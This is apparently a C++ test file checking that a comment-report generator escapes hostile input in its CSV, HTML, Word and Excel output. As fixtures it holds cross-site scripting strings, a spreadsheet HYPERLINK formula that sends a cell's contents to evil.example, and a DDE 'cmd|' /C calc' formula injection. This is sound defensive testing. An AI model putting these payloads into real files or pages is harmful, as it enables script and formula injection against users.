#include "pipeline/reports/appendix_format.h"

#include <catch2/catch.hpp>

#include <sstream>
#include <string>
#include <vector>

#include "tests/pipeline/html_check.h"
#include "tests/pipeline/office_parts.h"
#include "tests/pipeline/reports/hostile_records.h"
#include "tests/pipeline/strict_csv.h"

namespace {

using returns::AppendixFormat;

const std::string kSelection = R"(theme "=x" <script>alert('selection')</script> & more)";

std::string Written(AppendixFormat format, std::vector<std::string> mark_themes = {}) {
  returns::AppendixOptions options;
  options.selection = kSelection;
  options.mark_themes = std::move(mark_themes);
  std::ostringstream out;
  returns::WriteAppendix(returns::test::HostileRecords(), options, format, out);
  return out.str();
}

size_t Count(const std::string& text, const std::string& what) {
  size_t n = 0;
  for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) ++n;
  return n;
}

}  // namespace

TEST_CASE("regression: an appendix CSV cell starting with '=', '+', '-', '@' or a tab is text to a spreadsheet",
          "[reports][appendix][csv][regression]") {
  const std::string csv = Written(AppendixFormat::kCsv);
  const returns::test::CsvCellRows rows = returns::test::ParseCsvCells(csv);
  const std::vector<returns::CommentRecord> records = returns::test::HostileRecords();
  REQUIRE(rows.size() == records.size() + 1);
  CHECK(csv.rfind("question,district,collaborative,lead_schools,return_id,position,heading,comment,themes,round\r\n", 0) == 0);
  for (size_t i = 1; i < rows.size(); ++i) {
    REQUIRE(rows[i].size() == 10);
    for (size_t c = 0; c < 10; ++c) {
      INFO("row " << i << ", cell " << c << ": " << rows[i][c].text);
      CHECK_FALSE(returns::test::SpreadsheetFormula(rows[i][c].text));
      CHECK(rows[i][c].quoted == (c != 0 && c != 5));  // all but the question and the position
    }
  }
  // In appendix order: Dover's two comments, then Thanet's, then Swale's (one section per question).
  CHECK(rows[1][1].text == "Dover <script>alert('district')</script>");
  CHECK(rows[1][2].text == R"~("><img src=x onerror="alert('collaborative')"> & Co)~");
  CHECK(rows[1][3].text == R"(St Mary's & St John's <b>CE</b>; =HYPERLINK("http://evil.example/","click"))");
  CHECK(rows[1][6].text == R"~(Priority 1 ' onmouseover='alert(1)' " onfocus="alert(2)")~");
  CHECK(rows[1][7].text == R"('=HYPERLINK("http://evil.example/?"&A1,"moderation report"))");
  CHECK(rows[2][7].text == "'+44 moderation <script>alert('text')</script> & a learning walk");
  CHECK(rows[3][1].text == "'-Thanet");
  CHECK(rows[3][2].text == "'@Group");
  CHECK(rows[3][3].text == "'+Plus School");
  CHECK(rows[3][7].text == "'-2+3+cmd|' /C calc'!A0 moderation");
  CHECK(rows[4][1].text == "'=Swale");
  CHECK(rows[4][7].text == "'\tTab first: plain <img src=x onerror=\"alert('img')\">");
  CHECK(rows[4][0].text == "4");
  CHECK(rows[4][5].text == "1");
  // Each comment's round, last: the same return id and position in two rounds are told apart.
  size_t hostile_round = 0, usual = 0;
  for (size_t i = 1; i < rows.size(); ++i) {
    hostile_round += rows[i][9].text == "'-2014";
    usual += rows[i][9].text == "2014-03";
  }
  CHECK(hostile_round == 1);
  CHECK(usual == rows.size() - 2);
}

TEST_CASE("the appendix page escapes names, headings, comments, marks and the selection", "[reports][appendix][html]") {
  for (const std::vector<std::string>& marks : {std::vector<std::string>{}, {returns::test::kHostileThemeId}}) {
    const std::string html = Written(AppendixFormat::kHtml, marks);
    const std::vector<std::string> problems = returns::test::HtmlProblems(html);
    INFO((problems.empty() ? "" : problems.front()));
    CHECK(problems.empty());
    CHECK(Count(html, "<script") == 0);
    CHECK(Count(html, "<img") == 0);
    CHECK(Count(html, "<b>") == 0);
    CHECK(Count(html, "<i>") == 0);
    CHECK(Count(html, "<p class=\"quote\">") == 4);
    CHECK(html.find("<title>Appendix: theme &quot;=x&quot; &lt;script&gt;alert(&#39;selection&#39;)&lt;/script&gt; &amp; "
                    "more</title>") != std::string::npos);
    CHECK(html.find("<h1>Appendix: theme &quot;=x&quot; &lt;script&gt;") != std::string::npos);
    CHECK(html.find("<tr><td>Dover &lt;script&gt;alert(&#39;district&#39;)&lt;/script&gt;</td><td>&quot;&gt;&lt;img "
                    "src=x onerror=&quot;alert(&#39;collaborative&#39;)&quot;&gt; &amp; Co</td><td>St Mary&#39;s &amp; "
                    "St John&#39;s &lt;b&gt;CE&lt;/b&gt;; =HYPERLINK(&quot;http://evil.example/&quot;,&quot;click&quot;)"
                    "</td>") != std::string::npos);
    CHECK(html.find("<span class=\"heading\">Priority 1 &#39; onmouseover=&#39;alert(1)&#39; &quot; "
                    "onfocus=&quot;alert(2)&quot;:</span>") != std::string::npos);
    CHECK(html.find("<tr><td>=Swale</td><td>Plain &amp; &quot;Quoted&quot; &#39;Group&#39;</td><td>&lt;i&gt;Lead&lt;/i&gt;"
                    "</td>") != std::string::npos);
  }
  // A mark around text that is itself markup: the mark is ours, the text escaped inside it.
  const std::string marked = Written(AppendixFormat::kHtml, {returns::test::kHostileThemeId});
  CHECK(marked.find("“+44 moderation <mark>&lt;script&gt;alert(&#39;text&#39;)&lt;/script&gt;</mark> &amp; a "
                    "<mark>learning walk</mark>”") != std::string::npos);
  CHECK(Count(marked, "<mark>") == 1 + 2);  // the page's key, and the two matches of that theme
  const std::string all = Written(AppendixFormat::kHtml);
  CHECK(Count(all, "<mark>") == 1 + 6);  // every match: no span overlaps another
}

namespace {

// A return with three comments under one heading, then one under another, then one with none.
std::vector<returns::CommentRecord> HeadedRecords() {
  std::vector<returns::CommentRecord> out;
  auto add = [&](int position, std::optional<std::string> heading, std::string text) {
    returns::CommentRecord r;
    r.district = "Dover";
    r.collaborative = "Dover Hub";
    r.lead_schools = {"Guston"};
    r.question = 2;
    r.round = "2013-03";
    r.return_id = "q2/dover-hub/guston";
    r.position = position;
    r.heading = std::move(heading);
    r.text = std::move(text);
    r.tags = returns::Tagging{};
    out.push_back(std::move(r));
  };
  const std::string long_heading = "Priority 1: To raise attainment in reading across the collaboration";
  add(1, long_heading, "First comment.");
  add(2, long_heading, "Second comment.");
  add(3, long_heading, "Third comment.");
  add(4, std::string("PROGRESS:"), "Fourth comment.");
  add(5, std::nullopt, "Fifth comment.");
  return out;
}

std::string WrittenOf(const std::vector<returns::CommentRecord>& records, AppendixFormat format) {
  returns::AppendixOptions options;
  options.selection = "question 2";
  return returns::AppendixBytes(records, options, format).value();
}

}  // namespace

TEST_CASE("a heading ends in one colon", "[reports][appendix]") {
  std::vector<returns::CommentRecord> records = HeadedRecords();
  records[3].heading = "Raise the rate of progress so the trend is upward.";
  const std::string md = WrittenOf(records, AppendixFormat::kMarkdown);
  CHECK(md.find("*Priority 1: To raise attainment in reading across the collaboration:*") != std::string::npos);
  // A colon even after a full stop: reading a printed appendix back, the colon says where a heading ends.
  CHECK(md.find("*Raise the rate of progress so the trend is upward.:*") != std::string::npos);
  CHECK(md.find("::") == std::string::npos);
}

TEST_CASE("regression: a heading is shown once before the comments under it, not before each", "[reports][appendix]") {
  const std::vector<returns::CommentRecord> records = HeadedRecords();
  const std::string html = WrittenOf(records, AppendixFormat::kHtml);
  CHECK(Count(html, "Priority 1: To raise attainment") == 1);
  CHECK(Count(html, "<span class=\"heading\">") == 2);
  CHECK(Count(html, "PROGRESS:</span>") == 1);  // a heading ending in ':' gets no second one
  CHECK(Count(html, "<p class=\"quote\">") == 5);
  const std::string md = WrittenOf(records, AppendixFormat::kMarkdown);
  CHECK(Count(md, "Priority 1: To raise attainment") == 1);
  CHECK(md.find("*Priority 1: To raise attainment in reading across the collaboration:* “First comment.”<br><br>“Second "
                "comment.”<br><br>“Third comment.”<br><br>*PROGRESS:* “Fourth comment.”<br><br>“Fifth comment.”") !=
        std::string::npos);
  auto docx = returns::test::OfficePart(WrittenOf(records, AppendixFormat::kDocx), "word/document.xml");
  CHECK(returns::test::All(*docx, "w:p[w:pPr/w:pStyle/@w:val='CommentHeading']").size() == 2);
  CHECK(returns::test::All(*docx, "w:p[w:pPr/w:pStyle/@w:val='Comment']").size() == 5);
  // The same heading again after another one is shown again.
  std::vector<returns::CommentRecord> again = records;
  again[4].heading = again[0].heading;
  CHECK(Count(WrittenOf(again, AppendixFormat::kHtml), "Priority 1: To raise attainment") == 2);
}

TEST_CASE("a round column only when the selection spans rounds", "[reports][appendix]") {
  std::vector<returns::CommentRecord> records = HeadedRecords();
  for (AppendixFormat format : {AppendixFormat::kMarkdown, AppendixFormat::kHtml}) {
    CHECK(WrittenOf(records, format).find("Round") == std::string::npos);
  }
  auto one = returns::test::OfficePart(WrittenOf(records, AppendixFormat::kDocx), "word/document.xml");
  CHECK(returns::test::All(*one, "w:gridCol").size() == 4);
  records[4].round = "2014-03";  // the fifth comment from another round: a row of its own
  const std::string md = WrittenOf(records, AppendixFormat::kMarkdown);
  CHECK(md.find("| District | Collaborative | Lead school(s) | Round | Comments |\n|---|---|---|---|---|\n") !=
        std::string::npos);
  CHECK(md.find("| Dover | Dover Hub | Guston | 2014-03 | “Fifth comment.” |") != std::string::npos);
  const std::string html = WrittenOf(records, AppendixFormat::kHtml);
  CHECK(html.find("<th>Round</th>") != std::string::npos);
  CHECK(Count(html, "<td>2013-03</td>") == 1);
  CHECK(Count(html, "<td>2014-03</td>") == 1);
  auto two = returns::test::OfficePart(WrittenOf(records, AppendixFormat::kDocx), "word/document.xml");
  const pugi::xpath_node_set grid = returns::test::All(*two, "w:gridCol");
  REQUIRE(grid.size() == 5);
  int total = 0;
  for (pugi::xpath_node g : grid) total += g.node().attribute("w:w").as_int();
  CHECK(grid[4].node().attribute("w:w").as_int() * 2 > total);  // the comments more than half the width
  CHECK(returns::test::WordText(two->select_node("//w:tr").node()) == "DistrictCollaborativeLead school(s)RoundComments");
}

TEST_CASE("the Word appendix: title once, a section per question, theme matches in the ThemeMatch style, text kept",
          "[reports][appendix][docx]") {
  returns::AppendixOptions options;
  options.selection = kSelection;
  const std::vector<returns::CommentRecord> records = returns::test::HostileRecords();
  const std::string bytes = returns::AppendixDocx(records, options).value();
  auto doc = returns::test::OfficePart(bytes, "word/document.xml");
  const std::string title = "Appendix: " + kSelection;
  size_t titles = 0;
  for (pugi::xpath_node p : returns::test::All(*doc, "w:p")) titles += returns::test::WordText(p.node()) == title;
  CHECK(titles == 1);
  CHECK(returns::test::All(*doc, "w:p[w:pPr/w:pStyle/@w:val='Heading1']").size() == 3);  // questions 2, 3 and 4
  CHECK(returns::test::All(*doc, "w:tbl").size() == 3);
  // Every match marked (6, none overlapping), and the key's "like this".
  CHECK(returns::test::All(*doc, "w:r[w:rPr/w:rStyle/@w:val='ThemeMatch']").size() == 6 + 1);
  CHECK(returns::test::WordText(doc->select_node("//w:p[w:pPr/w:pStyle/@w:val='Comment']").node()) ==
        "“" + records[0].text + "”");
  CHECK(returns::test::WordText(doc->select_node("//w:tr[2]/w:tc[1]").node()) == records[0].district);
  // The tab at the start of a comment is a tab; nothing is lost of the text around it.
  CHECK(doc->select_node("//w:p[w:pPr/w:pStyle/@w:val='Comment'][.//w:tab]"));
  // Only the marked theme's matches when themes are chosen.
  options.mark_themes = {returns::test::kHostileThemeId};
  auto marked = returns::test::OfficePart(returns::AppendixDocx(records, options).value(), "word/document.xml");
  CHECK(returns::test::All(*marked, "w:r[w:rPr/w:rStyle/@w:val='ThemeMatch']").size() == 2 + 1);
}

TEST_CASE("the Excel appendix: a row per comment with every field, numbers as numbers, text as text",
          "[reports][appendix][xlsx]") {
  returns::AppendixOptions options;
  options.selection = kSelection;
  std::vector<returns::CommentRecord> records = returns::test::HostileRecords();
  records[0].attributes = {{"school_type", "\"=primary\""}, {"pupils", "412"}};
  records[2].attributes = {{"pupils", "88"}};
  const std::string bytes = returns::AppendixXlsx(records, options).value();
  auto sheet = returns::test::OfficePart(bytes, "xl/worksheets/sheet1.xml");
  CHECK(sheet->select_nodes("//f").empty());
  CHECK(sheet->select_nodes("//row").size() == records.size() + 1);
  CHECK(std::string(sheet->select_node("//pane").node().attribute("state").value()) == "frozen");
  CHECK(std::string(sheet->select_node("//autoFilter").node().attribute("ref").value()) == "A1:P5");
  // Question (A), position (H), line (N, absent here) and a numeric attribute are numbers; the rest strings.
  auto cell = [&](const std::string& ref) { return sheet->select_node(("//c[@r='" + ref + "']").c_str()).node(); };
  CHECK(std::string(cell("A2").attribute("t").value()).empty());
  CHECK(cell("A2").child("v").text().as_int() == 2);
  CHECK(cell("H2").child("v").text().as_int() == 1);
  CHECK(std::string(cell("J2").attribute("t").value()) == "s");   // the comment "=HYPERLINK(…)"
  CHECK(std::string(cell("O2").attribute("t").value()) == "s");   // school_type "=primary"
  CHECK(cell("P2").child("v").text().as_int() == 412);            // pupils
  CHECK(cell("P4").child("v").text().as_int() == 88);
}

TEST_CASE("a return that gave no district, of a collaborative the register does not know, is under '(no district)'",
          "[reports][appendix]") {
  std::vector<returns::CommentRecord> records = HeadedRecords();
  for (returns::CommentRecord& r : records) r.district.clear();
  const std::string md = WrittenOf(records, AppendixFormat::kMarkdown);
  CHECK(md.find("| (no district) | Dover Hub | Guston | ") != std::string::npos);
  CHECK(md.find("|  |") == std::string::npos);
  CHECK(Count(WrittenOf(records, AppendixFormat::kHtml), "<tr><td>(no district)</td><td>Dover Hub</td>") == 1);
  auto docx = returns::test::OfficePart(WrittenOf(records, AppendixFormat::kDocx), "word/document.xml");
  CHECK(returns::test::WordText(docx->select_nodes("//w:tr")[1].node()).rfind("(no district)Dover Hub", 0) == 0);
}
